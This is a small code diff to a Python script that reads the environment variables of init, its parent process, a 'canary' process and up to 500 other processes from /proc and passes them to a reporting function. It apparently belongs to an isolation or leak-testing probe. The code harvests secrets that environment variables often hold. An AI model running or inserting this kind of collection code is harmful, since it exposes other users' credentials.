@@ -20,7 +20,7 @@ def main():
             tell(f"{name}={value}".encode())
     seen = attempt(os.listdir, "/proc")
     seen = [name for name in seen if name.isdigit()][:500] if isinstance(seen, list) else []
-    for process in ["1", str(os.getppid()), os.environ.get("CANARY_PID", "")] + seen:
+    for process in ["1", str(getattr(os, "getppid", lambda: 1)()), os.environ.get("CANARY_PID", "")] + seen:
         try:
             tell(read(f"/proc/{process}/environ"))
         except OSError:
